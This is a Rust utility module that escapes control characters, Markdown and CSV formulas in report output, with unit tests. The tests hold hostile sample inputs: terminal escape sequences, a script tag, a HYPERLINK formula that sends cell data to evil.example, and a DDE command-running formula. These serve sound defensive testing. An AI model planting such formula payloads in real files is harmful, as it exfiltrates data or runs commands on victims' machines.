//! Text from result files and experiment files made safe to show: no
//! control character reaches a terminal, a file name or a page, and text
//! the tool did not write cannot become markup or a spreadsheet formula.

/// Whether `c` could move a terminal's cursor, change its colours, reorder
/// the text around it (bidirectional overrides) or hide itself.
fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// Whether `s` holds a character [`printable`] would replace.
pub fn has_unsafe(s: &str) -> bool {
    s.chars().any(|c| c != '\n' && is_unsafe(c))
}

/// `s` cut to at most `max` characters, the last one `…` where it was cut.
pub fn clip(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_string();
    }
    s.chars().take(max.saturating_sub(1)).collect::<String>() + "…"
}

/// `s` with a tab as a space and every other control character (an
/// escape, a carriage return, a bidirectional override) as `�`; line
/// breaks are kept.
pub fn printable(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            '\n' => '\n',
            '\t' => ' ',
            c if is_unsafe(c) => '\u{fffd}',
            c => c,
        })
        .collect()
}

/// Every string inside `v` made [`printable`].
pub fn clean_strings(v: &mut serde_json::Value) {
    use serde_json::Value;
    match v {
        Value::String(s) if has_unsafe(s) => *s = printable(s),
        Value::Array(items) => items.iter_mut().for_each(clean_strings),
        Value::Object(map) => map.values_mut().for_each(clean_strings),
        _ => {}
    }
}

/// Text inside Markdown shown as itself: what could become HTML, a link,
/// an image or a table border is escaped (the report's own text uses none
/// of them; its code spans and emphasis pass).
pub fn markdown(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '\\' | '[' | ']' | '|' => {
                out.push('\\');
                out.push(c);
            }
            '\n' => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

/// A CSV cell a spreadsheet will not run: text that begins with `=`, `+`,
/// `-`, `@`, a tab or a carriage return is prefixed with `'`, as OWASP
/// recommends; a number (`-5`, `+1e3`) stays a number.
pub fn csv_cell(s: &str) -> String {
    let formula =
        s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.trim().parse::<f64>().is_err();
    let s = if formula {
        format!("'{s}")
    } else {
        s.to_string()
    };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clipped_text_keeps_to_its_length_and_says_it_was_cut() {
        assert_eq!(clip("short", 28), "short");
        assert_eq!(clip("abcdef", 4), "abc…");
        assert_eq!(clip("αβγδε", 5), "αβγδε");
        assert_eq!(clip("αβγδεζ", 5).chars().count(), 5);
    }

    #[test]
    fn control_characters_never_pass() {
        let hostile = "a\u{1b}[31mred\u{7}\tb\rc\u{202e}d\u{9b}e\nf";
        let clean = printable(hostile);
        assert!(!has_unsafe(&clean), "{clean:?}");
        assert_eq!(
            clean,
            "a\u{fffd}[31mred\u{fffd} b\u{fffd}c\u{fffd}d\u{fffd}e\nf"
        );
        let mut v = serde_json::json!({"label": "x\u{1b}]8;;http://e\u{7}", "n": [1, "\u{0}"]});
        clean_strings(&mut v);
        assert!(!v.to_string().contains("\\u001b") && !v.to_string().contains("\\u0000"));
    }

    #[test]
    fn markdown_from_data_stays_text() {
        assert_eq!(
            markdown("<script>x</script> ![i](http://e/t.png) a|b"),
            "&lt;script&gt;x&lt;/script&gt; !\\[i\\](http://e/t.png) a\\|b"
        );
    }

    #[test]
    fn spreadsheet_formulas_are_neutralised_and_numbers_are_not() {
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""
        );
        assert_eq!(
            csv_cell("@SUM(1+1)*cmd|' /C calc'!A0"),
            "'@SUM(1+1)*cmd|' /C calc'!A0"
        );
        assert_eq!(csv_cell("+cmd"), "'+cmd");
        assert_eq!(csv_cell("\tx"), "'\tx");
        assert_eq!(csv_cell("-5"), "-5");
        assert_eq!(csv_cell("-1.5e3"), "-1.5e3");
        assert_eq!(csv_cell("–"), "–");
        assert_eq!(csv_cell("plain"), "plain");
    }
}
